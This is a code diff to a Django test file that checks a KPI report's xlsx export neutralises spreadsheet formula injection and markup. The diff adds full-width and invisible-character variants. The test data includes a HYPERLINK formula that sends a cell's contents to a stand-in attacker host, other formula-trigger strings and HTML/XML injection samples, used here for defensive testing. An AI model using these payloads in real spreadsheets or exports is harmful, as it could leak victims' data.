@@ -16,7 +16,10 @@ from tests.factories import InitiativeFactory, KPIFactory, KPIMeasurementFactory
 pytestmark = pytest.mark.django_db
 AS_OF = date(2026, 12, 1)
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1"]
+            "\t=1+1", "\r=1+1",
+            # Look-alikes a spreadsheet may read the same way: full-width, or behind an
+            # invisible character.
+            "＝HYPERLINK(A1)", "\u200b=1+1", "\ufeff=1+1"]
 MARKUP = ['<b>broken', '<img src="/etc/hostname"/>', '<a href="https://evil.example/">link</a>',
           "R&D < 5 > 3 &amp; &#60;", "</para>]]>"]
 
@@ -70,7 +73,7 @@ def test_formula_like_titles_are_text_and_numbers_numeric_in_the_xlsx(api, manag
         "'" + title.replace("\r", "\n") for title in FORMULAS)
     first = next(row for row in overdue if row[0] == "'" + FORMULAS[0])
     assert (first[5], first[6]) == (1, 2)  # real numbers, not text
-    assert list(book["KPI"].iter_rows(min_row=2, values_only=True))[0][1] == "'\n=1+1"
+    assert list(book["KPI"].iter_rows(min_row=2, values_only=True))[0][1] == "'" + FORMULAS[-1]
     summary = dict(book["概要"].iter_rows(min_row=2, values_only=True))
     assert summary["期限超過"] == len(FORMULAS)
 
